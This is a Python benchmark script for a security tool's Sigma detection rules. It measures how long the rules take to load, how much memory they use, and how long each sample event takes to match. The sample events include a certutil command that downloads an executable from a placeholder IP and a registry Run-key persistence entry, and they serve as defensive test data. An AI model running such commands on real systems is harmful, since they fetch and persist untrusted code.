"""`python -m bench.sigma_rules`: the Sigma bundle's load time, its memory once loaded, and time per event.

Load is measured from a cold start of the bundle (gzip JSON read, rules validated and compiled, indexed by log
source) under tracemalloc; memory is what stays allocated afterwards. Time per event is the median over
`--events` evaluations of one event against every rule of its log source, as the analyst runs it.
"""

from __future__ import annotations

import argparse
import gc
import os
import statistics
import time
import tracemalloc
from collections.abc import Mapping
from typing import Any

from bench import machine
from vigil.knowledge.sigma.rules import RuleSet, Source, ruleset

#: Representative events per log source, in Sigma's field names (a mapped Defender row, an Okta event).
EVENTS: tuple[tuple[str, Source, Mapping[str, Any]], ...] = (
    (
        "process_creation (mapped Defender row)",
        ("windows", "process_creation"),
        {
            "Image": "C:\\Windows\\System32\\certutil.exe",
            "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
            "ParentCommandLine": "cmd.exe /c run.bat",
            "User": "ACME\\jdoe",
            "Hashes": "SHA256=" + "AB" * 32,
        },
    ),
    (
        "registry_set",
        ("windows", "registry_set"),
        {
            "Image": "C:\\Users\\jdoe\\AppData\\Local\\Temp\\x.exe",
            "TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
            "Details": "C:\\Users\\jdoe\\AppData\\Local\\Temp\\x.exe",
        },
    ),
    (
        "okta (System Log event)",
        ("okta", "okta"),
        {
            "eventType": "user.account.privilege.grant",
            "actor": {"alternateId": "admin@example.com", "type": "User"},
            "outcome": {"result": "SUCCESS"},
            "securityContext": {"isProxy": False},
        },
    ),
)


def load() -> tuple[RuleSet, float, int, int]:
    """The rules compiled from cold: seconds (without tracing, which slows allocation), then peak and retained
    bytes of a second cold load under tracemalloc."""
    ruleset.cache_clear()
    started = time.perf_counter()
    ruleset()
    seconds = time.perf_counter() - started
    ruleset.cache_clear()
    gc.collect()
    tracemalloc.start()
    rules = ruleset()
    gc.collect()
    retained, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return rules, seconds, peak, retained


def per_event(rules: RuleSet, source: Source, event: Mapping[str, Any], count: int) -> tuple[float, int, int]:
    timings = []
    hits = 0
    for _ in range(count):
        started = time.perf_counter()
        hits = len(rules.match(event, [source]))
        timings.append(time.perf_counter() - started)
    return statistics.median(timings) * 1000, len(rules.by_source.get(source, ())), hits


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m bench.sigma_rules", description=__doc__)
    parser.add_argument("--events", type=int, default=200, help="evaluations per event (default 200)")
    args = parser.parse_args()
    rules, seconds, peak, retained = load()
    print(f"Machine: {machine.cpu_model()}, nproc {os.cpu_count()}, {machine.ram()} RAM, commit {machine.git_commit()}")
    print()
    print("| figure | value |")
    print("|---|---:|")
    print(f"| rules compiled / skipped | {rules.compiled:,} / {len(rules.skipped)} |")
    print(f"| load (read, validate, compile, index) | {seconds:.2f} s |")
    print(f"| memory retained after load (tracemalloc) | {retained / 2**20:.1f} MiB |")
    print(f"| memory peak during load (tracemalloc) | {peak / 2**20:.1f} MiB |")
    for name, source, event in EVENTS:
        ms, tried, hits = per_event(rules, source, event, args.events)
        print(f"| one event, {name}: {tried:,} rules tried, {hits} hit(s) | {ms:.2f} ms |")


if __name__ == "__main__":
    main()
